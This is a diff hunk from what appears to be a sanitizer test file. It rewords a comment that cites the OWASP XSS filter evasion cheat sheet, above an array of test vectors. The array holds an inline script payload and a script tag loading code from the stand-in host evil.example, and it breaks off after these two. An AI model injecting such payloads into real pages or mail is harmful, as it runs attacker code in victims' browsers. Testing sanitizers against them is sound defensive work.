@@ -108,7 +108,7 @@ describe("the specification's call", () => {
   });
 });
 
-/** What has run in mail programs and sanitizers before; https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html */
+/** Markup that has run in mail programs and sanitizers before; https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html */
 const vectors = [
   '<script>__xss=1</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
